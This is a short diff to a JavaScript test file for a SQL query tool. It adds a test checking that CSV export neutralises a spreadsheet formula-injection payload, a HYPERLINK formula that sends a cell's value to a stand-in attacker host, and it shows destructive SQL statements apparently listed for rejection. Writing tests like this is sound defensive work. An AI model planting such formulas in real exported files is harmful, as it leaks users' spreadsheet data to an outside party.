@@ -58,6 +58,14 @@ test('a query reads the lists it was given', async () => {
   match((await run('sql-query', ['select name from customers'])).facts?.[0]?.label ?? '', /Sample database/);
 });
 
+test('what others wrote is no formula in the spreadsheet of a query', async () => {
+  const [books] = tables;
+  ok(books);
+  const hostile = { ...books, rows: [[1, '=HYPERLINK("https://evil.example?"&B1)', -4.5]] };
+  const { file } = await run('sql-query', ['select title, shelf_price from books'], { tables: [hostile] });
+  equal(file?.content, '"title","shelf_price"\r\n"\'=HYPERLINK(""https://evil.example?""&B1)",-4.5\r\n');
+});
+
 test.each([
   'delete from books',
   'with b as (select 1) delete from books',
